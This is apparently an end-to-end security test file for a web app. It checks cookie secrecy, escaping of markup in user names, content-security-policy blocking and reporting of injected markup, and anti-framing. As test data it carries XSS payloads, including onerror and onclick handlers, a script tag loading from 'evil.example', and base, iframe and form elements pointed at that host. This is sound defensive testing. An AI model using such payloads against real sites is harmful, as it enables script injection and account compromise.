import { once } from 'node:events'
import { createServer } from 'node:http'

import type { Page } from 'playwright'
import { expect, inject, onTestFinished, test } from 'vitest'

import { signedUp } from './support/account/accounts.ts'
import { newPage } from './support/browser/browser.ts'
import { untilAlive, windows } from './support/journey.ts'
import { startFront } from './support/product/front.ts'

/** Counts the violations of the content security policy that the browser reports on its console. */
const STOPPED = [/Content Security Policy|Trusted|frame-ancestors|evil\.example/i]
/** Markup that an attacker with access to a page could inject. */
const INJECTED =
  '<script>xss = 1</script><script src="https://evil.example/x.js"></script>' +
  '<style>body { display: none }</style><p style="position: fixed">' +
  '<img src="/nothing.png" onerror="xss = 1"><button onclick="xss = 1">Click me</button>'
const MARKUP = '<img src=x onerror=xss=1>'

const origin = inject('origin')

test('A17 nothing that a script can read opens the account', async () => {
  const page = await signedUp('Marie', {
    origin,
    theme: 'wizard',
    viewport: windows.laptop,
  })
  await page.goto('/dashboard')
  await page.getByRole('button', { name: 'Sign Out' }).waitFor()
  const cookies = await page.context().cookies()
  const secrets = cookies.filter(({ httpOnly }) => httpOnly)
  expect(secrets.map(({ name }) => name)).toContain('sid')
  const readable = await page.evaluate(async () => {
    const caches = await globalThis.caches.keys()
    const kept = await Promise.all(
      caches.map(async (name) => (await globalThis.caches.open(name)).keys()),
    )
    return {
      cookie: document.cookie,
      stored: JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
      databases: await indexedDB.databases(),
      cachedCalls: kept.flat().filter(({ url }) => url.includes('/api/')).length,
      page: document.documentElement.outerHTML,
    }
  })
  expect(readable).toMatchObject({ cookie: 'signed-in=1', databases: [], cachedCalls: 0 })
  const everything = JSON.stringify(readable)
  const leaked = secrets.filter(({ value }) =>
    [value, decodeURIComponent(value), value.split('.')[0] ?? value].some((text) =>
      everything.includes(text),
    ),
  )
  expect(leaked).toEqual([])
  expect(readable.stored).not.toMatch(/violet-brass-telescope|password|token|session/i)
})

test('C1 a name with markup is text on every screen', { tags: 'long' }, async () => {
  const page = await signedUp(MARKUP, {
    origin,
    theme: 'wizard',
    viewport: windows.laptop,
  })
  for (const path of ['/dashboard', '/dashboard/profile', '/dashboard/settings', '/leaderboard']) {
    // oxlint-disable-next-line no-await-in-loop
    await page.goto(path)
    // oxlint-disable-next-line no-await-in-loop
    await untilAlive(page)
    // oxlint-disable-next-line no-await-in-loop
    await page.getByRole('button', { name: 'Sign Out' }).waitFor()
    // oxlint-disable-next-line no-await-in-loop
    expect(await injected(page)).toEqual({ images: 0, hasRun: false })
  }
  await page.goto('/dashboard/profile')
  await page.getByText(MARKUP).first().waitFor()
})

test('C8 injected markup does not run, and is reported', async () => {
  // Without https a browser only knows the older way to report.
  const front = await startFront(origin, (policy) => policy.replace('report-to csp; ', ''))
  onTestFinished(front.stop)
  front.change('/about', (html) => html.replace('</body>', `${INJECTED}</body>`))
  const page = await newPage({ baseURL: front.origin, expected: [...STOPPED, /404/] })
  await page.goto('/about')
  await page.getByRole('button', { name: 'Click me' }).click()
  await page.evaluate(() => {
    const refused: string[] = []
    Object.assign(globalThis, { refused })
    function attempt(what: string, act: () => void): void {
      try {
        act()
      } catch {
        refused.push(what)
      }
    }
    const [base, frame, image, form] = ['base', 'iframe', 'img', 'form'].map((name) =>
      document.createElement(name),
    )
    base?.setAttribute('href', 'https://evil.example/')
    frame?.setAttribute('src', 'https://evil.example/')
    image?.setAttribute('src', 'https://evil.example/pixel.png')
    form?.setAttribute('action', 'https://evil.example/')
    document.body.append(...[base, frame, image, form].filter((element) => element !== undefined))
    attempt('markup', () =>
      Reflect.set(document.body, 'innerHTML', '<img src=y onerror="xss = 1">'),
    )
    attempt('handler', () => document.body.setAttribute('onclick', 'xss = 1'))
    if (form instanceof HTMLFormElement) form.submit()
  })
  const refused = await page.evaluate(() => Reflect.get(globalThis, 'refused'))
  expect(refused).toEqual(['markup', 'handler'])
  expect(await page.evaluate(() => 'xss' in globalThis)).toBe(false)
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
  expect(page.url()).toBe(`${front.origin}/about`)
  await expect
    .poll(() => [...new Set(front.reports.flatMap(directivesIn))].toSorted())
    .toEqual([
      'base-uri',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ])
})

test('C9 a page of another origin cannot show the app in a frame', async () => {
  const html = `<title>evil</title><iframe src="${origin}/dashboard"></iframe>`
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(html)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  const address = server.address()
  const port = address !== null && typeof address === 'object' ? address.port : 0
  const page = await newPage({ expected: [...STOPPED, /ERR_BLOCKED_BY_RESPONSE/, /404/] })
  await page.goto(`http://127.0.0.1:${port}/`)
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
})

/** Counts the effects of an injected image. */
function injected(page: Page) {
  return page.evaluate(() => ({
    images: document.querySelectorAll('img[src=x]').length,
    hasRun: 'xss' in globalThis,
  }))
}

/** The directives that a report names, in the older or the newer form. */
function directivesIn(report: string): readonly string[] {
  const names = report.matchAll(/"(?:effective-directive|effectiveDirective)":"([^"]+)"/g)
  return Array.from(names, ([, name = '']) => name)
}
